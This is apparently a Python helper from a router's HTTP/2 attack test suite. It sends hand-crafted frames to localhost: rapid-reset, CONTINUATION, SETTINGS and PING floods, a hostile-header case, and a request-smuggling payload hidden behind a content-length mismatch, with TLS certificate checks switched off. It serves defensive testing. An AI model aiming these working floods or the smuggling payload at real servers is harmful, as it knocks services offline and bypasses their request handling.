#!/usr/bin/python3
"""Hand-crafted HTTP/2 frames against the router, for the attack suite (Http2AttackTests).

Usage: h2attack.py CASE PORT ENDPOINT KEY [COUNT]    (floods)
       h2attack.py header PORT ENDPOINT KEY NAME VALUE

Speaks HTTP/2 over TLS (ALPN h2) to 127.0.0.1:PORT only. Frames are built with hyperframe and
header blocks with hpack (Debian's python3-h2 brings both), so the script can send what a
well-behaved client library refuses to: floods, resets, and headers an HTTP/1.1 backend would
misread. Every loop is bounded in count and the whole run in time (READ_SECONDS).

Prints one JSON object: what the server answered.
  goaway          error code of the server's GOAWAY, or null
  closed          the server closed the connection
  statuses        {stream id: :status} of the responses received
  resets          {stream id: error code} of the server's RST_STREAMs
  settings_acks   SETTINGS frames with ACK received
  ping_acks       PING frames with ACK received
  sent            frames the attack sent before the server closed the connection (or all)
"""

import json
import socket
import ssl
import sys
import time

from hpack import Encoder, Decoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
READ_SECONDS = 10
CANCEL = 0x8


class Connection:
    def __init__(self, port):
        context = ssl.create_default_context()
        # The suite checks certificates elsewhere; here only the frames matter.
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock = context.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not select h2")
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.buffer = b""
        self.closed = False
        self.goaway = None
        self.statuses = {}
        self.resets = {}
        self.settings_acks = 0
        self.ping_acks = 0
        self.sent = 0
        self.write_failed = False
        self.send_raw(PREFACE + SettingsFrame(0).serialize())

    def send_raw(self, data):
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            # The server hung up mid-write: what it said before (a GOAWAY) may still be readable.
            self.write_failed = True
            self.pump(1)
            self.closed = True
            return False

    def send(self, *frames):
        ok = self.send_raw(b"".join(f.serialize() for f in frames))
        if ok:
            self.sent += len(frames)
        return ok

    def headers(self, stream_id, headers, end_stream=True, end_headers=True):
        frame = HeadersFrame(stream_id)
        frame.data = self.encoder.encode(headers)
        frame.flags.add("END_HEADERS") if end_headers else None
        frame.flags.add("END_STREAM") if end_stream else None
        return frame

    def pump(self, seconds, until=None):
        """Reads frames for up to `seconds`, until the server closes the connection, or until `until()` holds."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline and not (until and until()):
            if self.write_failed and not self.buffer and self.goaway is not None:
                break
            self.sock.settimeout(max(0.05, min(0.5, deadline - time.monotonic())))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.buffer += data
            self._parse()

    def drain_nonblocking(self):
        """Reads whatever has arrived, without waiting: keeps the server's writes flowing during a flood."""
        self.sock.setblocking(False)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    break
                self.buffer += data
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (ConnectionResetError, ssl.SSLError, OSError):
            self.closed = True
        finally:
            self.sock.setblocking(True)
        self._parse()

    def _parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            self._on_frame(frame)

    def _on_frame(self, frame):
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                self.settings_acks += 1
            else:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send_raw(ack.serialize())
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                self.ping_acks += 1
        elif isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            self.resets[str(frame.stream_id)] = frame.error_code
        elif isinstance(frame, HeadersFrame):
            headers = dict(self.decoder.decode(frame.data))
            status = headers.get(":status") or headers.get(b":status")
            if status is not None:
                self.statuses[str(frame.stream_id)] = int(status)
        elif isinstance(frame, DataFrame) and frame.flow_controlled_length:
            # Keep the server's window open so a response is never stuck behind flow control.
            self.send_raw(WindowUpdateFrame(0, frame.flow_controlled_length).serialize()
                          + (WindowUpdateFrame(frame.stream_id, frame.flow_controlled_length).serialize() if "END_STREAM" not in frame.flags else b""))

    def report(self):
        return {
            "goaway": self.goaway, "closed": self.closed, "statuses": self.statuses, "resets": self.resets,
            "settings_acks": self.settings_acks, "ping_acks": self.ping_acks, "sent": self.sent,
        }


def score_headers(endpoint, key, extra=()):
    return [
        (":method", "POST"), (":scheme", "https"), (":authority", "localhost"),
        (":path", f"/api/v1/service/{endpoint}/score"), ("authorization", f"Bearer {key}"),
        ("content-type", "application/json"), *extra,
    ]


def main():
    case, port, endpoint, key = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    count = int(sys.argv[5]) if len(sys.argv) > 5 and sys.argv[5].isdigit() else 1000
    c = Connection(port)
    c.pump(0.3)

    if case == "rapid-reset":
        # CVE-2023-44487: open a stream and cancel it at once, over and over, in one write per batch.
        for batch in range(0, count, 50):
            frames = []
            for i in range(batch, min(batch + 50, count)):
                stream = 1 + 2 * i
                frames.append(c.headers(stream, score_headers(endpoint, key), end_stream=False))
                frames.append(RstStreamFrame(stream, error_code=CANCEL))
            if not c.send(*frames):
                break
            c.drain_nonblocking()
        c.pump(READ_SECONDS)
    elif case in ("continuation-flood", "empty-continuation-flood"):
        # CVE-2024-27316 family: a header block that never ends. Each CONTINUATION carries one more
        # header (or nothing at all), and END_HEADERS never comes.
        first = c.headers(1, score_headers(endpoint, key), end_stream=True, end_headers=False)
        c.send(first)
        filler = "a" * 1000
        for i in range(count):
            frame = ContinuationFrame(1)
            frame.data = b"" if case == "empty-continuation-flood" else c.encoder.encode([(f"x-flood-{i}", filler)])
            if not c.send(frame):
                break
            if i % 100 == 0:
                c.drain_nonblocking()
                if c.closed or c.goaway is not None:
                    break
        if case == "empty-continuation-flood" and not c.closed and c.goaway is None:
            # The server coped: end the header block, and the request must be answered as usual.
            last = ContinuationFrame(1)
            last.flags.add("END_HEADERS")
            c.send(last)
            c.pump(READ_SECONDS, until=lambda: "1" in c.statuses)
        else:
            c.pump(READ_SECONDS)
    elif case == "settings-flood":
        # Every SETTINGS frame obliges the server to send an ACK; the attacker reads none of them.
        for batch in range(0, count, 100):
            if not c.send(*[SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}) for _ in range(100)]):
                break
        c.pump(READ_SECONDS, until=lambda: c.settings_acks > count)
    elif case == "ping-flood":
        for batch in range(0, count, 100):
            if not c.send(*[PingFrame(0, opaque_data=(batch + i).to_bytes(8, "big")) for i in range(100)]):
                break
        c.pump(READ_SECONDS, until=lambda: c.ping_acks >= count)
    elif case == "header":
        # One request with one hostile header (name and value from argv 5 and 6, backslash escapes allowed).
        name = sys.argv[5].encode().decode("unicode_escape")
        value = sys.argv[6].encode().decode("unicode_escape")
        headers = score_headers(endpoint, key)
        if name.startswith(":"):
            headers = [(n, value if n == name else v) for n, v in headers]
            if name not in dict(headers):
                headers.append((name, value))
        else:
            headers.append((name, value))
        body = b"{}"
        frame = c.headers(1, headers, end_stream=False)
        c.send(frame, DataFrame(1, data=body, flags=["END_STREAM"]))
        c.pump(READ_SECONDS, until=lambda: c.goaway is not None or "1" in c.statuses or "1" in c.resets)
    elif case == "content-length-mismatch":
        # The DATA frames carry more than content-length says: an HTTP/1.1 hop that trusted the
        # header would read the rest as a second request (RFC 9113 §8.1.1 makes it malformed).
        smuggled = (f"POST /api/v1/service/{endpoint}/score HTTP/1.1\r\nHost: localhost\r\n"
                    f"Authorization: Bearer {key}\r\nx-smuggled: 1\r\nContent-Length: 2\r\n\r\n{{}}").encode()
        frame = c.headers(1, score_headers(endpoint, key, [("content-length", "2")]), end_stream=False)
        c.send(frame, DataFrame(1, data=b"{}" + smuggled, flags=["END_STREAM"]))
        c.pump(READ_SECONDS, until=lambda: c.goaway is not None or "1" in c.statuses or "1" in c.resets)
    else:
        raise SystemExit(f"unknown case {case}")

    print(json.dumps(c.report()))


if __name__ == "__main__":
    main()
